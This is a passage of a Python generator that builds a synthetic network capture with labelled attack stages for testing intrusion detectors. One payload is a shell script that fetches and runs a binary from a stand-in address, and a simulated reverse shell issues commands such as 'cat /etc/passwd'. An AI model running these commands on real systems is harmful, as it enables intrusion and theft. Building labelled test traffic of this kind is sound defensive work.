        c.send(True, P.ssh_newkeys(rng), think=300, ack_last=False)
        # Authentication and an interactive shell: encrypted keystrokes and command output.
        c.exchange(
            rng.randbytes(rng.choice([44, 52, 68])), rng.randbytes(rng.choice([44, 52])), client_think=500
        )
        c.exchange(
            rng.randbytes(rng.randint(300, 700)), rng.randbytes(rng.randint(500, 900)), client_think=1_000
        )
        for _ in range(rng.randint(*self.cfg["ssh_keys"])):
            c.exchange(
                rng.randbytes(36),
                rng.randbytes(36),
                server_think=100,
                client_think=rng.randint(80_000, 3 * S),
            )
            if rng.random() < 0.15:
                c.send(False, rng.randbytes(rng.randint(100, 3000)), think=rng.randint(1_000, 50_000))
        c.close(from_client=True, think=rng.randint(1 * S, 10 * S))

    def vpn_tunnel(self, t, public_ip, pool_ip, user, end_t):
        """Remote user's TLS tunnel to the appliance: login, LDAPS auth by the appliance against
        the DC, then irregular traffic bursts until end_t."""
        rng = self.rng
        c = self.tcp(t, public_ip, VPN_PUBLIC, 443).handshake()
        hello, hs = P.tls_client_hello(rng, "vpn.corp.example", "curl")
        c.exchange(hello, P.tls12_server_flight(rng, BENIGN_CERT, cipher=0xC02B), server_think=900)
        c.send(True, P.tls12_client_finish(rng), think=400, ack_last=False)
        c.send(False, P.tls12_server_finish(rng), think=600)
        c.send(True, P.tls_app_data(rng, 420), think=300, ack_last=False)  # credentials
        self.tls_session(
            c.t + 2_000,
            VPN_INSIDE,
            DC,
            None,
            [(380, 260), (120, 90)],
            profile="appliance",
            tls13=False,
            port=636,
            idle=rng.randint(100_000, 400_000),
        )
        c.send(False, P.tls_app_data(rng, 900), think=rng.randint(20_000, 60_000))
        while c.t < end_t:
            gap = int(rng.expovariate(1 / self.cfg["vpn_burst_gap"]) * S) + 200_000
            done = c.t + gap >= end_t
            if done:
                gap = max(0, end_t - c.t)  # idle, kept alive, until the user disconnects
            # Dead-peer-detection keepalives every ~30 s while the tunnel is idle, as real VPN
            # clients send: without them flow tables would time the tunnel out.
            while gap > 35 * S:
                before = c.t
                c.send(True, P.tls_app_data(rng, 8), think=rng.randint(28 * S, 32 * S), ack_last=False)
                c.send(False, P.tls_app_data(rng, 8), think=rng.randint(300, 3_000))
                gap -= c.t - before
            if done:
                break
            c.send(True, P.tls_app_data(rng, rng.randint(80, 1400)), think=gap, ack_last=False)
            c.send(
                False,
                P.tls_app_data(rng, self.lognormal_size(1200, self.cfg["response_cap"])),
                think=rng.randint(20_000, 120_000),
            )
        c.close(from_client=True, think=100_000)

    # ------------------------------------------------------------------ background
    def poisson_times(self, rate_per_hour, lo=None, hi=None):
        lo = self.start if lo is None else lo
        hi = self.end if hi is None else hi
        out = []
        if rate_per_hour <= 0:
            return out
        t = lo + int(self.rng.expovariate(rate_per_hour / 3600.0) * S)
        while t < hi - 30 * S:
            out.append(t)
            t += int(self.rng.expovariate(rate_per_hour / 3600.0) * S) + 1
        return out

    def background(self):
        rng = self.rng
        cfg = self.cfg
        for ip in self.research_ws + self.business_ws + self.vpn_users + self.compromised:
            for t in self.poisson_times(cfg["web_rate"]):
                if self.zone_of(ip) == "vpn_pool":
                    if rng.random() < 0.5:
                        _, t = self.lookup(t, ip, "intranet.corp.example")
                        self.tls_session(
                            t,
                            ip,
                            INTRANET,
                            "intranet.corp.example",
                            [
                                (
                                    self.lognormal_size(500, 2000),
                                    self.lognormal_size(5000, cfg["response_cap"]),
                                )
                            ],
                            tls13=False,
                        )
                    continue
                self.web_session(t, ip)
            for t in self.poisson_times(cfg["smb_rate"]):
                if self.zone_of(ip) == "vpn_pool":
                    self.smb_session(
                        t,
                        ip,
                        FS_BUSINESS,
                        self.users[ip],
                        "CORP",
                        [("Sales\\%s" % self.file_name(), self.lognormal_size(4000, 30_000))],
                        workers_delay=(500_000, 5 * S),
                    )
                else:
                    self.benign_smb(t, ip)
            if self.net.host(ip).os == "windows" and self.zone_of(ip) != "vpn_pool":
                for t in self.poisson_times(0.5):
                    self.lookup(t, ip, "wpad.corp.example", force=True)
        # Business users on the intranet portal.
        for ip in self.business_ws:
            for t in self.poisson_times(cfg["web_rate"] / 3):
                _, t = self.lookup(t, ip, "intranet.corp.example")
                self.tls_session(
                    t,
                    ip,
                    INTRANET,
                    "intranet.corp.example",
                    [(self.lognormal_size(500, 2000), self.lognormal_size(5000, cfg["response_cap"]))],
                    tls13=False,
                )
        # Benign remote-access users: tunnel from the internet, inside address in the pool.
        for ip in self.vpn_users:
            t0 = self.start + rng.randint(5 * S, 120 * S)
            self.vpn_tunnel(
                t0, self.vpn_user_public[ip], ip, self.users[ip], self.end - rng.randint(10, 60) * S
            )
        # Administrators: research admin to gitlab and launch-ops hosts, launch-ops admin inside.
        for _ in range(cfg["ssh_sessions"]):
            t = self.start + rng.randint(30 * S, (self.cfg["duration"] - 300) * S)
            dst = rng.choice([GITLAB] + self.launch_hosts)
            self.ssh_session(t, RESEARCH_ADMIN, dst)
            t = self.start + rng.randint(30 * S, (self.cfg["duration"] - 300) * S)
            self.ssh_session(t, LAUNCH_ADMIN, rng.choice(self.launch_hosts))
        for ip in self.launch_hosts:
            for t in self.poisson_times(1.0):
                self.lookup(
                    t,
                    ip,
                    rng.choice(sorted(n for n in self.internal_names if n.endswith(".launch.corp.example"))),
                )
        # Time: everyone syncs with the internal NTP server, which syncs with the internet.
        clients = (
            self.research_ws
            + self.business_ws
            + self.compromised
            + [FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET, GITLAB]
        )
        for ip in clients + self.launch_hosts + [VPN_PUBLIC, NTP_INTERNAL]:
            server = (
                NTP_PUBLIC
                if ip in (VPN_PUBLIC, NTP_INTERNAL)
                else (NTP_LAUNCH if self.zone_of(ip) == "launch_ops" else NTP_INTERNAL)
            )
            t = self.start + rng.randint(0, cfg["ntp_interval"] * S)
            c = self.net.host(ip)
            s = self.net.host(server)
            while t < self.end:
                sport = 123 if c.os == "linux" else rng.randint(49152, 65535)
                self.net.udp(t, c, sport, s, 123, P.ntp_client(t))
                r = t + self.rtt(ip, server)
                self.net.udp(r, s, 123, c, sport, P.ntp_server(r - self.distance(ip), t))
                t += cfg["ntp_interval"] * S + rng.randint(-20 * S, 20 * S)
        # Monitoring pings of the servers.
        mon = self.net.host(MONITOR)
        for i, ip in enumerate(
            [
                FS1[0],
                FS_RND2[0],
                FS_BUSINESS[0],
                DC,
                INTRANET,
                GITLAB,
                RESOLVER["research"],
                RESOLVER["business"],
            ]
        ):
            t = self.start + rng.randint(0, cfg["ping_interval"] * S)
            seq = 1
            while t < self.end:
                self.net.ping(t, mon, self.net.host(ip), 0x4000 + i, seq, self.rtt(MONITOR, ip))
                seq += 1
                t += cfg["ping_interval"] * S + rng.randint(-3_000, 3_000)
        # The appliance resolves names and syncs time on the internet (allowed by policy).
        for t in self.poisson_times(4.0):
            self.lookup(t, VPN_PUBLIC, rng.choice(["update.osvendor.example", "ocsp.trustca.example"]))

    # ------------------------------------------------------------------ attack stages
    def stage(self, key, name, description, detector, also, mitre, entities, fn):
        first = len(self.net.frames)
        evidence = fn() or {}
        frames = self.net.frames[first:]
        times = [f[0] for f in frames]
        self.stages.append(
            {
                "id": key,
                "name": name,
                "description": description,
                "start": iso(min(times)),
                "end": iso(max(times)),
                "start_us": min(times),
                "end_us": max(times),
                "expected_detector": detector,
                "also_detected_by": also,
                "mitre": {"tactic_id": mitre[0], "technique_id": mitre[1]},
                "entities": entities,
                "evidence": evidence,
                "packets": len(frames),
                "wire_bytes": sum(len(f[2]) for f in frames),
                "_range": (first, len(self.net.frames)),
            }
        )

    def stage_exploit(self):
        rng = self.rng
        t = self.t_exploit
        for method, path, ua in EXPLOIT_REQUESTS:
            c = self.tcp(t, ATTACKER, VPN_PUBLIC, 80).handshake()
            req = P.http_request(
                method, path, VPN_PUBLIC, ua, extra=["Accept-Encoding: gzip, deflate", "Connection: close"]
            )
            if "sslvpn_websession" in path:
                body = (
                    b"var fgt_lang = {\n"
                    + b"".join(
                        b"\x00" * 8
                        + (
                            "%s\x00%s\x00"
                            % (
                                u,
                                "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(12)),
                            )
                        ).encode()
                        for u in ["jdoe", "asmith", "vpnadmin", "mlopez"]
                    )
                    + b"};\n"
                )
                resp = P.http_response(
                    200, "OK", body, c.t, content_type="application/javascript", server="xxxxxxxx-xxxxx"
                )
            elif "system-information" in path:
                body = json.dumps(
                    {
                        "system-information": {
                            "name": "vpn-gw-01",
                            "software-version": "22.3R1",
                            "build": "1647.1",
                            "platform": "ISA-6000",
                            "uptime": "134 days",
                        }
                    }
                ).encode()
                resp = P.http_response(200, "OK", body, c.t, content_type="application/json", server="")
            elif "keys-status" in path:
                resp = P.http_response(
                    200, "OK", b'{"status":"ok"}', c.t, content_type="application/json", server=""
                )
            else:
                resp = P.http_response(200, "OK", self.text_body(2500), c.t, server="xxxxxxxx-xxxxx")
            c.exchange(req, resp, server_think=rng.randint(5_000, 80_000))
            c.close(from_client=False, think=2_000)
            t = c.t + rng.randint(2, 9) * S
        return {"requests": len(EXPLOIT_REQUESTS), "paths": [p for _, p, _ in EXPLOIT_REQUESTS]}

    def stage_appliance(self):
        rng = self.rng
        t = self.t_appliance
        c = self.tcp(t, VPN_PUBLIC, ATTACKER_INFRA, 80).handshake()
        script = (
            b"#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q http://192.0.2.77/bins/x86_64 -O .httpd && chmod +x .httpd && ./.httpd &\n"
            * 6
        )
        c.exchange(
            P.http_request("GET", "/bins/update.sh", ATTACKER_INFRA, "curl/7.29.0"),
            P.http_response(
                200, "OK", script, c.t, content_type="text/x-sh", server="Apache/2.4.41 (Ubuntu)"
            ),
            server_think=30_000,
        )
        c.close(from_client=False, think=1_000)
        # Reverse shell over TCP/443 without TLS: commands in, output out.
        s = self.tcp(c.t + rng.randint(20, 40) * S, VPN_PUBLIC, ATTACKER_INFRA, 443).handshake()
        cmds = [
            b"id\n",
            b"uname -a\n",
            b"cat /etc/passwd\n",
            b"ls -la /data/var/runtime\n",
            b"ip addr\n",
            b"cat /proc/net/tcp\n",
        ]
        s.send(True, b"sh-4.2# ", think=50_000, ack_last=True)
        for cmd in cmds:
            s.send(False, cmd, think=rng.randint(3, 25) * S, ack_last=False)
            s.send(True, rng.randbytes(rng.randint(60, 1500)), think=rng.randint(5_000, 60_000))
        s.close(from_client=False, think=rng.randint(5, 20) * S)
        # From the shell, the appliance's inside address reaches for internal admin services:
        # SMB on the DC (negotiate only) and SSH on gitlab (banner, then gone).
        t = s.t + rng.randint(30, 90) * S
        smb = self.tcp(t, VPN_INSIDE, DC, 445).handshake()
        smb.exchange(
            P.netbios(P.smb2_header(P.SMB2_NEGOTIATE, 0) + P.smb2_negotiate_req(rng, smb.t)),
            P.netbios(
                P.smb2_header(P.SMB2_NEGOTIATE, 0, response=True)
                + P.smb2_negotiate_resp(rng.randbytes(16), smb.t, self.start - 40 * 86400 * S)
            ),
            server_think=600,
        )
        smb.reset(True, think=2_000)
        ssh = self.tcp(smb.t + rng.randint(2, 8) * S, VPN_INSIDE, GITLAB, 22).handshake()
        ssh.send(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n", think=2_000)
        ssh.close(from_client=True, think=rng.randint(100_000, 900_000))
        return {
            "connections": 4,
            "internet": {"destination": ATTACKER_INFRA, "ports": [80, 443]},
            "internal": {"destinations": [DC, GITLAB], "ports": [445, 22]},
        }

    def stage_vpn_login(self):
        # The stolen session: the attacker logs in as jdoe and gets a pool address.
        # The tunnel stays up through the scan and the collection; its outer bytes do not mirror
        # the inner traffic (a simplification that keeps the capture small).
        self.vpn_tunnel(
            self.t_vpn_login,
            ATTACKER,
            VPN_ATTACKER_ADDR,
            VPN_ATTACKER_USER,
            self.start + self.cfg["duration"] * S // 2,
        )
        return {"user": VPN_ATTACKER_USER}

    def stage_scan(self):
        rng = self.rng
        cfg = self.cfg
        known = [ip for ip in self.research_ws + self.business_ws if ip != VIOLATOR] + [
            FS1[0],
            FS_RND2[0],
            FS_BUSINESS[0],
            GITLAB,
            DC,
            INTRANET,
        ]
        targets = list(known)
        while len(targets) < cfg["scan_hosts"]:
            ip = "10.%d.%d.%d" % (rng.choice([20, 30]), rng.randint(1, 20), rng.randint(1, 254))
            if ip not in targets and ip not in self.net.hosts:
                targets.append(ip)
        targets = targets[: cfg["scan_hosts"]]
        rng.shuffle(targets)
        ports = [445, 3389, 22, 5985, 135]
        t = self.t_scan
        opened = 0
        probes = 0
        for ip in targets:
            exists = ip in self.net.hosts
            h = self.net.host(ip, os="windows")
            for port in ports:
                c = self.tcp(t, VPN_ATTACKER_ADDR, ip, port, sport=rng.randint(40000, 65000))
                probes += 1
                if not exists:
                    c.syn_unanswered(retries=0)
                else:
                    openp = (port in (445, 135) and h.os == "windows" and rng.random() < 0.25) or (
                        port == 22 and h.os == "linux"
                    )
                    if openp:
                        c.handshake()
                        c.reset(True, think=200)
                        opened += 1
                    elif rng.random() < 0.7:
                        c.syn_rst()
                    else:
                        c.syn_unanswered(retries=0)
                t += rng.randint(60_000, 400_000)
        return {"targets": len(targets), "ports": ports, "probes": probes, "syn_ack": opened}

    def collection_files(self, n):
        rng = self.rng
        lo, hi = self.cfg["file_size"]
        median = max(lo, min(hi, self.cfg["file_median"]))
        seen = set()
        out = []
        while len(out) < n:
            path = "%s\\%s\\%s" % (rng.choice(PROJECTS), rng.choice(SUBDIRS), self.file_name())
            if path in seen:
                continue
            seen.add(path)
            out.append((path, int(min(hi, max(lo, rng.lognormvariate(math.log(median), 0.9))))))
        return out

    def stage_collection(self):
        rng = self.rng
        n = self.cfg["files"]
        files = self.collection_files(n)
        split = int(n * 0.8)
        w1, w2 = self.cfg["smb_workers"]
        plan = [(FS1, files[:split], w1), (FS_RND2, files[split:], w2)]
        t = self.t_collect
        _, t = self.lookup(t, VPN_ATTACKER_ADDR, "fs1.research.corp.example")
        total = 0
        shares = []
        end = t
        for server, flist, workers in plan:
            dirs_by_worker = [[] for _ in range(workers)]
            files_by_worker = [flist[i::workers] for i in range(workers)]
            for w in range(workers):
                projects = sorted({p.split("\\")[0] for p, _ in files_by_worker[w]})
                for proj in projects[: self.cfg["list_dirs"]]:
                    entries = [(s, 0, True) for s in SUBDIRS]
                    dirs_by_worker[w].append((proj, entries))
            for w in range(workers):
                c, nbytes, tree_path = self.smb_session(
                    t + w * rng.randint(200_000, 900_000),
                    VPN_ATTACKER_ADDR,
                    server,
                    VPN_ATTACKER_USER,
                    VPN_ATTACKER_DOMAIN,
                    files_by_worker[w],
                    workers_delay=(2_000, 40_000),
                    dirs=dirs_by_worker[w],
                    workstation=ATTACKER_WORKSTATION,
                )
                total += nbytes
                end = max(end, c.t)
            shares.append(tree_path)
            t = end + rng.randint(10, 40) * S
        self.collect_end = end
        return {"files": n, "bytes": total, "shares": shares, "sessions": sum(w for _, _, w in plan)}

    def stage_staging(self):
        """The collected files, archived, are copied from the VPN-pool address to the staging
        workstation's administrative share, from where the implant uploads them."""
        rng = self.rng
        size = self.cfg["exfil_bytes"]
        name = "Windows\\Temp\\~wrk%04d.7z" % rng.randint(0, 9999)
        c, _, tree = self.smb_session(
            self.t_staging,
            VPN_ATTACKER_ADDR,
            STAGING_SHARE,
            VPN_ATTACKER_USER,
            VPN_ATTACKER_DOMAIN,
            [],
            workers_delay=(5_000, 50_000),
            workstation=ATTACKER_WORKSTATION,
            writes=[(name, size)],
        )
        return {"share": tree, "file": name, "bytes": size}

    def stage_exfil(self):
        rng = self.rng
        t = self.t_exfil
        addr, t = self.lookup(t, STAGING_HOST, EXFIL_SNI)
        total = self.cfg["exfil_bytes"]
        chunk = 4 * 1024 * 1024
        reqs = []
        left = total
        while left > 0:
            k = min(chunk, left)
            reqs.append((k, rng.randint(180, 320)))
            left -= k
        c = self.tls_session(
            t,
            STAGING_HOST,
            addr,
            EXFIL_SNI,
            reqs,
            profile="curl",
            tls13=True,
            idle=rng.randint(200_000, 900_000),
        )
        return {"bytes_out": c.bytes_c2s, "bytes_in": c.bytes_s2c, "destination": EXFIL_IP, "sni": EXFIL_SNI}

    def stage_beacon(self):
        rng = self.rng
        t = self.start + rng.randint(15 * S, 45 * S)
        count = 0
        while t < self.end - 30 * S:
            _, t1 = self.lookup(t, STAGING_HOST, C2_SNI)
            task = self.cfg["beacon_task_bytes"] if rng.random() < 0.06 else 0
            self.tls_session(
                t1,
                STAGING_HOST,
                C2_IP,
                C2_SNI,
                [(rng.randint(236, 252), rng.randint(96, 112) + task)],
                profile="implant",
                tls13=False,
                cert=C2_CERT,
                idle=rng.randint(20_000, 80_000),
            )
            count += 1
            t += 60 * S + rng.randint(-1_500_000, 1_500_000)
        return {"connections": count, "interval_s": 60, "jitter_s": 1.5, "sni": C2_SNI}

    def stage_tunnel(self):
        rng = self.rng
        t = self.t_tunnel
        alphabet = "abcdefghijklmnopqrstuvwxyz234567"
        n = self.cfg["tunnel_queries"]
        names = []
        net = self.net
        cli = net.host(TUNNEL_HOST)
        res = net.host(RESOLVER["research"])
        up = net.host(UPSTREAM_DNS)
        session = "".join(rng.choice(alphabet) for _ in range(4))
        for i in range(n):
            labels = ["".join(rng.choice(alphabet) for _ in range(rng.randint(48, 60))) for _ in range(2)]
            name = "%s.%s.%s%04x.%s" % (labels[0], labels[1], session, i, TUNNEL_DOMAIN)
            names.append(name)
            txt = [
                (
                    "".join(
                        rng.choice(string.ascii_letters + string.digits + "+/")
                        for _ in range(rng.randint(60, 200))
                    )
                ).encode()
            ]
            qid = rng.getrandbits(16)
            sport = rng.randint(49152, 65535)
            net.udp(t, cli, sport, res, 53, P.dns_query(qid, name, "TXT"))
            t1 = t + self.rtt(TUNNEL_HOST, RESOLVER["research"]) // 2 + 40
            uq = rng.getrandbits(16)
            usport = rng.randint(1024, 65535)
            net.udp(t1, res, usport, up, 53, P.dns_query(uq, name, "TXT"))
            t1 += self.rtt(RESOLVER["research"], UPSTREAM_DNS) + rng.randint(20_000, 90_000)
            answer = [("TXT", 0, txt)]
            net.udp(t1, up, 53, res, usport, P.dns_response(uq, name, "TXT", answer))
            net.udp(t1 + 30, res, 53, cli, sport, P.dns_response(qid, name, "TXT", answer))
            t += rng.randint(200_000, 1_200_000)
        return {"queries": n, "qtype": "TXT", "unique_names": len(set(names)), "example_name": names[0]}

    def stage_violation(self):
        c = self.tcp(self.t_violation, VIOLATOR, LAUNCH_TARGET, 22)
        c.syn_unanswered(retries=1)
        return {"syn": 2, "port": 22, "rule": "forbidden business -> launch_ops"}

    def stage_mail_exfil(self):
        rng = self.rng
        self.net.host(STEALER_HOST, os="windows")
        self.dns_db[MAIL_EXFIL_NAME] = [("A", MAIL_EXFIL_IP)]
        addr, t = self.lookup(self.t_mail_exfil, STEALER_HOST, MAIL_EXFIL_NAME)
        # What AgentTesla-like stealers send: the browsers' saved passwords as a small report.
        # Every value here is made up.
        report = "\n".join(
            "Host: https://%s/ Username: %s Password: %s Application: %s"
            % (site, user, "".join(rng.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(10)), app)
            for site, user, app in [
                ("intranet.corp.example", "bwright", "Chrome"),
                ("webmail.corp.example", "bwright@corp.example", "Edge"),
                ("portal.partner-lab.example", "b.wright", "Firefox"),
            ]
        )
        msg = self.mail_message(t, "drop.box@cheapmailhost.example", "collect.point@freemail.example",
                                "PW_bwright/%s" % STEALER_NAME, "Time: now\nUser Name: bwright\n" + report)
        c = self.smtp_session(t, STEALER_HOST, addr, MAIL_EXFIL_NAME.encode(), STEALER_NAME.encode(),
                              "drop.box@cheapmailhost.example", ["collect.point@freemail.example"], msg,
                              auth=("drop.box@cheapmailhost.example", "s3ndm4il!"), port=587)
        return {"bytes_out": c.bytes_c2s, "destination": MAIL_EXFIL_IP, "port": 587, "auth": "LOGIN",
                "starttls_offered": True}

    def run(self):
        D = self.cfg["duration"] * S
        rng = self.rng
        self.background()
        bg_end = len(self.net.frames)
        self.t_exploit = self.start + int(0.06 * D) + rng.randint(0, S)
        self.t_appliance = self.t_exploit + 90 * S + rng.randint(0, 20 * S)
        self.t_vpn_login = self.t_exploit + 200 * S + rng.randint(0, 20 * S)
        self.t_scan = self.t_vpn_login + 60 * S + rng.randint(0, 10 * S)
        self.stage(
            "a",
            "vpn_exploit",
            "Exploit requests from an internet host against the VPN portal (path traversal, "
            "Ivanti authentication bypass and command injection)",
            "signature",
            ["http"],
            ("TA0001", "T1190"),
            {"ip": [ATTACKER, VPN_PUBLIC], "domain": []},
            self.stage_exploit,
        )
        self.stage(
            "b",
            "vpn_appliance_outbound",
            "The VPN appliance itself downloads a script and opens a reverse shell to an internet host, "
            "then its inside address touches SMB on the DC and SSH on gitlab",
            "vpn_appliance",
            ["zones.allowed_services"],
            ("TA0011", "T1105"),
            {"ip": [VPN_PUBLIC, ATTACKER_INFRA, VPN_INSIDE]},
            self.stage_appliance,
        )
        self.stage(
            "a2",
            "vpn_login_stolen_session",
            "Context, no network detector expected: the attacker logs in to the "
            "VPN as jdoe (TLS to the portal, LDAPS check by the appliance) and receives a pool address",
            None,
            ["identity"],
            ("TA0001", "T1078"),
            {"ip": [ATTACKER, VPN_PUBLIC, VPN_ATTACKER_ADDR], "user": [VPN_ATTACKER_USER]},
            self.stage_vpn_login,
        )
        self.stage(
            "c",
            "scan_from_vpn_pool",
            "Horizontal SYN scan from a VPN-pool address over research and business " "hosts on admin ports",
            "scan",
            ["lateral_movement", "zones.allowed_services"],
            ("TA0007", "T1046"),
            {"ip": [VPN_ATTACKER_ADDR]},
            self.stage_scan,
        )
        t_scan_end = self.stages[-1]["end_us"]
        self.t_collect = t_scan_end + 120 * S + rng.randint(0, 30 * S)
        self.stage(
            "d",
            "smb_mass_collection",
            "SMB2 sessions from the VPN-pool address as RESEARCH\\jdoe reading "
            "many distinct files (evidence.files: 30 tiny, 500 small, 3000 medium, 10000 large) from the research file servers",
            "mass_file_access",
            ["lateral_movement", "zones.allowed_services"],
            ("TA0009", "T1039"),
            {
                "ip": [VPN_ATTACKER_ADDR, FS1[0], FS_RND2[0]],
                "user": ["%s\\%s" % (VPN_ATTACKER_DOMAIN, VPN_ATTACKER_USER)],
                "share": ["\\\\%s\\%s" % (FS1[1], FS1[2]), "\\\\%s\\%s" % (FS_RND2[1], FS_RND2[2])],
                "host": [FS1[1], FS_RND2[1]],
            },
            self.stage_collection,
        )
        self.t_staging = self.stages[-1]["end_us"] + rng.randint(60 * S, 120 * S)
        self.stage(
            "d2",
            "staging",
            "The VPN-pool address writes the archived collection to the staging workstation's C$ "
            "share over SMB2 (a host it never used before)",
            "lateral_movement",
            ["zones.allowed_services"],
            ("TA0009", "T1074.002"),
            {
                "ip": [VPN_ATTACKER_ADDR, STAGING_HOST],
                "user": ["%s\\%s" % (VPN_ATTACKER_DOMAIN, VPN_ATTACKER_USER)],
                "share": ["\\\\%s\\%s" % (STAGING_SHARE[1], STAGING_SHARE[2])],
                "host": [STAGING_SHARE[1]],
            },
            self.stage_staging,
        )
        self.t_exfil = self.stages[-1]["end_us"] + max(120 * S, int(0.05 * D)) + rng.randint(0, 30 * S)
        self.stage(
            "e",
            "exfiltration",
            "The staged archive uploaded over TLS from the staging workstation to a first-seen external address",
            "exfiltration",
            [],
            ("TA0010", "T1041"),
            {"ip": [STAGING_HOST, EXFIL_IP], "domain": [EXFIL_SNI]},
            self.stage_exfil,
        )
        self.stage(
            "f",
            "beaconing",
            "Implant on a research host calls its C2 over TLS every 60 s +/- 1.5 s for the " "whole capture",
            "beaconing",
            [],
            ("TA0011", "T1071.001"),
            {"ip": [STAGING_HOST, C2_IP], "domain": [C2_SNI]},
            self.stage_beacon,
        )
        self.t_tunnel = self.start + int(0.7 * D) + rng.randint(0, 30 * S)
        self.stage(
            "g",
            "dns_tunnel",
            "TXT queries with long high-entropy labels under one domain",
            "dns_tunnel",
            [],
            ("TA0011", "T1071.004"),
            {"ip": [TUNNEL_HOST, RESOLVER["research"]], "domain": [TUNNEL_DOMAIN]},
            self.stage_tunnel,
        )
        self.t_violation = self.start + int(0.9 * D) + rng.randint(0, 30 * S)
        self.stage(
            "h",
            "segmentation_violation",
            "A business host sends a SYN to a launch-ops host",
            "zones.forbidden",
            [],
            ("TA0008", "T1021.004"),
            {"ip": [VIOLATOR, LAUNCH_TARGET]},
            self.stage_violation,
        )
        # Added in generator version 2, after everything else so the traffic above kept its
        # random draws: benign mail (background) and a stealer mailing its loot (stage i).
        mail_start = len(self.net.frames)
        self.background_mail()
        mail_end = len(self.net.frames)
        self.t_mail_exfil = self.start + int(0.35 * D) + rng.randint(0, 30 * S)
        self.stage(
            "i",
            "mail_exfiltration",
            "An infostealer on a business workstation logs in to an internet mail server in the "
            "clear (AUTH LOGIN, STARTTLS offered and not used) and mails the passwords it harvested",
            "exfiltration",
            [],
            ("TA0010", "T1048.003"),
            {"ip": [STEALER_HOST, MAIL_EXFIL_IP], "domain": [MAIL_EXFIL_NAME]},
            self.stage_mail_exfil,
        )
        # Benign entities: background hosts that neither initiated attack traffic nor are named
        # in a stage. Scan targets stay benign: they only answered.
        initiators = set()
        named = set()
        for st in self.stages:
            a, b = st.pop("_range")
            named.update(st["entities"].get("ip", []))
            for _, _, fr in self.net.frames[a:b]:
                if initiated(fr):
                    initiators.add(ip_str(fr[26:30]))
        seen = set()
        for _, _, fr in self.net.frames[:bg_end] + self.net.frames[mail_start:mail_end]:
            seen.add(ip_str(fr[26:30]))
            seen.add(ip_str(fr[30:34]))
        key = lambda ip: tuple(int(x) for x in ip.split("."))  # noqa: E731
        self.benign_ips = sorted(seen - initiators - named, key=key)
        self.attack_initiators = sorted(initiators, key=key)

    def write(self, out_dir, pcap_name="scenario.pcap"):
        os.makedirs(out_dir, exist_ok=True)
        frames = self.net.sorted_frames()
        # The capture stops at the end time like a real one: sessions still open are cut off.
        last = len(frames)
        while last and frames[last - 1][0] > self.end:
            last -= 1
        del frames[last:]
        pcap = os.path.join(out_dir, pcap_name)
        netpkt.write_pcap(pcap, frames)
        truth = {
            "generator": "komainu tools/scenario/generate.py",
            "version": GENERATOR_VERSION,
            "seed": self.seed,
            "size": self.size,
            "scale": self.scale,
            "files": self.cfg["files"],
            "pcap": pcap_name,
            "zones": "zones.yaml",
            "start": iso(self.start),
            "end": iso(self.end),
            "start_us": self.start,
            "end_us": self.end,
            "first_packet_us": frames[0][0],
            "last_packet_us": frames[-1][0],
            "packets": len(frames),
            "network": {
                "vpn_appliance": {"public": VPN_PUBLIC, "inside": VPN_INSIDE},
                "resolvers": RESOLVER,
                "file_servers": {s[1]: s[0] for s in (FS1, FS_RND2, FS_BUSINESS)},
            },
            "stages": self.stages,
            "benign": {"ip": self.benign_ips},
            "attack_initiators": {"ip": self.attack_initiators},
        }
        with open(os.path.join(out_dir, "truth.json"), "w") as f:
            json.dump(truth, f, indent=2, sort_keys=False)
            f.write("\n")
        with open(os.path.join(out_dir, "zones.yaml"), "w") as f:
            f.write(zones_yaml())
        return truth


def cached(fills, key, t, ttl=300 * S):
    """True when a record filled at one of the (sorted) times fills[key] is still live at t.
    Sessions are generated host by host, not in time order, so a cache is a list of fill times
    rather than one expiry."""
    times = fills.get(key)
    if not times:
        return False
    i = bisect.bisect_right(times, t)
    return i > 0 and t < times[i - 1] + ttl


def ip_str(b):
    return "%d.%d.%d.%d" % (b[0], b[1], b[2], b[3])


def initiated(frame):
    """True when the frame opens something: a TCP SYN, a DNS/NTP query, an ICMP echo request."""
    proto = frame[23]
    if proto == netpkt.PROTO_TCP:
        return frame[47] & (netpkt.SYN | netpkt.ACK) == netpkt.SYN
    if proto == netpkt.PROTO_UDP:
        sport, dport = struct.unpack_from("!HH", frame, 34)
        if dport == 123:
            return frame[42] & 0x07 == 3  # NTP mode 3: client
        return dport == 53 and sport != 53
    return proto == netpkt.PROTO_ICMP and frame[34] == 8


def zones_yaml():
    lines = [
        "# komainu zones and segmentation policy (generated by tools/scenario/generate.py).",
        "# Longest prefix wins; an address in no zone belongs to the implicit zone 'internet'.",
        "zones:",
    ]
    for z, cidrs in ZONES.items():
        lines.append("  %s: [%s]" % (z, ", ".join(cidrs)))
    lines.append("policy:")
    lines.append("  # Any connection attempt (even one unanswered SYN) from a zone to the other is an alert.")
    lines.append("  forbidden:")
    for r in POLICY["forbidden"]:
        lines.append("    - {from: %s, to: %s}" % (r["from"], r["to"]))
    lines.append(
        "  # A listed pair may use only these services (proto/port); anything else between them is an alert."
    )
    lines.append("  # Pairs not listed here and not forbidden are unrestricted.")
    lines.append("  allowed_services:")
    for r in POLICY["allowed_services"]:
        lines.append(
            "    - {from: %s, to: %s, services: [%s]}" % (r["from"], r["to"], ", ".join(r["services"]))
        )
    lines.append("  # These zones must never exchange traffic with the internet, in either direction.")
    lines.append("  no_internet: [%s]" % ", ".join(POLICY["no_internet"]))
    return "\n".join(lines) + "\n"


# Self-signed ECDSA P-256 certificates made once with the openssl CLI (`openssl ca -selfsign` with
# fixed -startdate/-enddate so they are valid at the scenario dates): a CDN-style wildcard for
# benign TLS 1.2 servers and a default-looking "CN=localhost" for the C2 server.
BENIGN_CERT = bytes.fromhex(
    "308201de30820185a00302010202021000300a06082a8648ce3d040302303f3116301406035504030c0d2a2e6578616d"
    "706c652e6e6574310b300906035504061302555331183016060355040a0c0f4578616d706c652043444e20496e63301e"
    "170d3233313130313030303030305a170d3234313130313030303030305a303f3116301406035504030c0d2a2e657861"
    "6d706c652e6e6574310b300906035504061302555331183016060355040a0c0f4578616d706c652043444e20496e6330"
    "59301306072a8648ce3d020106082a8648ce3d03010703420004fb49503cb7615d898de618b0b5725c7325547c974ee9"
    "b79b03b4daccc698d1b63b66b412babe2f3b9970da4983171bf8ec65b1246f4355f28ee3a7df8f903b0aa371306f3043"
